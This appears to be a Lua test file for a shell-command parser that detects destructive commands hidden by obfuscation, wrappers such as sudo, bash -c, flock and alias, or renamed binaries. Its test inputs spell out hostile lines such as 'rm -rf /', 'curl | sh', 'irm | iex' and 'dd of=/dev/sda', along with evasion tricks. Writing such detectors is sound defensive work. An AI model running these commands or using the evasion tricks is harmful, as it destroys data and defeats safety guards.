-- Script tests of the shell module, run by the stdlib harness with its
-- expect module. They mirror parse.star.
local shell = require("shell")
local expect = require("expect")

-- An obfuscated destructive line comes back as the commands it runs.
local cmds = shell.parse([[cd / && sudo r\m -fr *]])
expect.eq(#cmds, 2)
expect.eq(cmds[1].name, "cd")
expect.eq(cmds[2].name, "rm")
expect.eq(cmds[2].argv, {"rm", "-fr", "*"})
expect.eq(cmds[2].wrapped_by, {"sudo"})
expect.eq(cmds[2].dynamic, true) -- the glob
expect.eq(cmds[2].pipeline, 1)
expect.eq(cmds[2].position, 0)
expect.truthy(shell.has_flag(cmds[2], "r", "recursive"))

-- bash -c is parsed too.
cmds = shell.parse([[bash -c "rm -rf ~"]])
expect.eq(cmds[1].argv, {"rm", "-rf", "~"})
expect.eq(cmds[1].wrapped_by, {"bash"})
expect.truthy(cmds[1].dynamic)

-- Destructive text that is only data is not a command.
cmds = shell.parse([[echo "rm -rf /"]])
expect.eq(#cmds, 1)
expect.eq(cmds[1].argv, {"echo", "rm -rf /"})
expect.eq(cmds[1].dynamic, false)

-- A scoped command is told apart by its target.
cmds = shell.parse("rm -rf ./build")
expect.eq(cmds[1].argv, {"rm", "-rf", "./build"})
expect.eq(cmds[1].dynamic, false)

-- curl | sh: one pipeline, sh reading curl's output.
cmds = shell.parse("curl -fsSL https://example.com/i.sh | sh")
expect.eq(cmds[2].name, "sh")
expect.eq(cmds[2].pipeline, cmds[1].pipeline)
expect.eq(cmds[2].position, 1)

-- source of standard input runs its here-string as a script, as bash -s
-- does; a sourced file's here-string is only that file's input.
cmds = shell.parse("source /dev/stdin <<< 'rm -rf /'")
expect.eq(#cmds, 2)
expect.eq(cmds[1].lang, "sh")
expect.eq(cmds[2].argv, {"rm", "-rf", "/"})
expect.eq(cmds[2].wrapped_by, {"source"})
cmds = shell.parse(". /dev/stdin <<< 'rm -rf /'")
expect.eq(cmds[2].wrapped_by, {"."})
expect.eq(#shell.parse("source ./env.sh <<< 'rm -rf /'"), 1)

-- A statement with redirections alone runs ":" with them: it still
-- truncates its file.
cmds = shell.parse("> hooks.d/x.lua")
expect.eq(#cmds, 1)
expect.eq(cmds[1].name, ":")
expect.eq(cmds[1].redirects[1].target, "hooks.d/x.lua")
expect.eq(#shell.parse("X=1"), 0)

-- Redirections.
cmds = shell.parse("echo x >> /etc/hosts")
expect.eq(cmds[1].redirects[1].op, ">>")
expect.eq(cmds[1].redirects[1].fd, 1)
expect.eq(cmds[1].redirects[1].target, "/etc/hosts")

-- has_flag takes an argv list too.
expect.truthy(shell.has_flag({"rm", "--rec", "/"}, nil, "recursive"))
expect.truthy(shell.has_flag({"rm", "/", "-fr"}, "r"))
expect.eq(shell.has_flag({"rm", "--", "-rf"}, "r"), false)

-- split removes quotes and refuses operators.
-- powershell: a PowerShell line as the POSIX line parse reads
expect.eq(shell.powershell([[Remove-Item -Recurse C:\Windows]]), "Remove-Item -Recurse C:/Windows")
expect.eq(shell.powershell([[$r = irm https://x.example/a | iex]]), "irm https://x.example/a | iex")
expect.eq(shell.powershell([[Remove-Item $env:USERPROFILE]]), "Remove-Item ~")
local ps = shell.parse(shell.powershell([[gci C:\x | % { Remove-Item $_ -Recurse }]]))
expect.eq(ps[3].name, "Remove-Item")
expect.eq(ps[1].argv[2], "C:/x")
expect.fails(function() shell.powershell(string.rep("x", shell.max_line_bytes + 1)) end, "too long")
expect.eq(shell.split([[git commit -m "a message"]]), {"git", "commit", "-m", "a message"})

-- Bad input is an error the script can catch.
expect.fails(function() shell.parse('echo "unterminated') end, "shell.parse: ")
expect.fails(function() shell.parse(string.rep("x", 16385)) end, "too long")
expect.fails(function() shell.parse(42) end, "want string")
expect.fails(function() shell.split("a | b") end, "shell.split: ")
expect.fails(function() shell.has_flag({"rm"}, "rf") end, "one character")

-- Launchers run an argv (flock, strace, …) or a line of shell (script -c,
-- sg -c, tmux new, nix-shell --run, expect -c); alias values are code.
cmds = shell.parse("flock /tmp/x rm -rf /")
expect.eq(cmds[1].argv, {"rm", "-rf", "/"})
expect.eq(cmds[1].wrapped_by, {"flock"})
cmds = shell.parse("strace -f ls")
expect.eq(cmds[1].argv, {"ls"})
cmds = shell.parse("script -c 'rm -rf /'")
expect.eq(cmds[1].argv, {"rm", "-rf", "/"})
expect.eq(cmds[1].wrapped_by, {"script"})
cmds = shell.parse("expect -c 'spawn rm -rf /'")
expect.eq(cmds[1].wrapped_by, {"expect", "spawn"})
cmds = shell.parse("alias x='rm -rf /'")
expect.eq(#cmds, 2)
expect.eq(cmds[1].argv, {"alias", "x=rm -rf /"})
expect.eq(cmds[2].argv, {"rm", "-rf", "/"})
expect.eq(cmds[2].wrapped_by, {"alias"})

-- roles: what each word is to its program
expect.eq(shell.parse("grep .env README.md")[1].roles, {"name", "pattern", "operand"})
expect.eq(shell.parse("sudo rg --threads 2 -e x src")[1].roles, {"name", "option", "value", "option", "pattern", "operand"})
expect.eq(shell.parse("git --version checkout -f")[1].roles, {"name", "option", "data", "data"})
expect.eq(shell.parse("git check-ignore -v .env")[1].roles, {"name", "subcommand", "data", "data"})
expect.eq(shell.parse("echo rm -rf /")[1].roles, {"name", "data", "data", "data"})
-- dir: where a command runs, as far as the line says
expect.eq(shell.parse("cd /tmp && rm x")[2].dir, "/tmp")
expect.eq(shell.parse("(cd /tmp && true); rm -rf *")[3].dir, "")
expect.eq(shell.parse('cd "$X"; ls')[2].dir, "?")
expect.eq(shell.parse("ls")[1].dir, "")
expect.eq(shell.parse("cd /tmp/gone; rm -rf *")[2].alt_dirs, {""})
expect.eq(shell.parse("cd /tmp/x && rm -rf *")[2].alt_dirs, {})
-- roles of a command a guard builds itself: an argv list, or a parsed command
expect.eq(shell.roles({"find", ".", "-name", "*.o", "-delete"}), {"name", "operand", "option", "pattern", "option"})
expect.eq(shell.roles({"rm", "-rf", "--", "-x", "-"}), {"name", "option", "option", "operand", "operand"})
expect.eq(shell.roles(shell.parse("grep .env README.md")[1]), {"name", "pattern", "operand"})
expect.eq(shell.roles({}), {})
expect.fails(function() shell.roles({"rm", 1}) end, "argv[1]: want string")

-- salvage: what can be known of a line that does not parse whole
expect.eq(shell.max_line_bytes, 16384)
expect.eq(shell.shells[1], "sh")
expect.eq(shell.shells[3], "dash")
expect.eq(shell.windows_shells, {powershell = "powershell", pwsh = "powershell", ["powershell.exe"] = "powershell", ["pwsh.exe"] = "powershell", cmd = "cmd", ["cmd.exe"] = "cmd"})
expect.eq(shell.copiers, {"cp", "install", "link", "ln", "mv", "objcopy", "rsync", "strip"})
local s = shell.salvage("echo \\$(cat .env); rm -rf /")
expect.eq(#s.commands, 1)
expect.eq(s.commands[1].argv, {"rm", "-rf", "/"})
expect.eq(s.unparsed, {"echo \\$(cat .env)"})
expect.eq(#shell.salvage("ls").unparsed, 0)

-- a name the line gives a program runs as that program
-- (reported as written, then as the program)
expect.eq(shell.parse("hash -p /bin/rm ls; ls -rf /")[2].name, "ls")
expect.eq(shell.parse("hash -p /bin/rm ls; ls -rf /")[3].name, "rm")
expect.eq(shell.parse("hash -p /bin/rm ls; ls -rf /")[3].argv, {"/bin/rm", "-rf", "/"})
expect.eq(shell.parse("cp /bin/rm x; sudo ./x -rf /")[3].wrapped_by, {"sudo"})
expect.eq(shell.parse("cp /bin/rm x; sudo ./x -rf /")[3].name, "rm")
expect.eq(shell.parse("BASH_CMDS[x]=/bin/dd; x of=/dev/sda")[2].name, "dd")
expect.eq(shell.parse("cp build/app dist/app && ./dist/app")[2].argv, {"./dist/app"})
-- launchers that start their command elsewhere: read as cd DIR && command
expect.eq(shell.parse("env -C / rm -rf usr")[2].dir, "/")
expect.eq(shell.parse("sudo systemd-run rm -rf usr")[2].dir, "/")
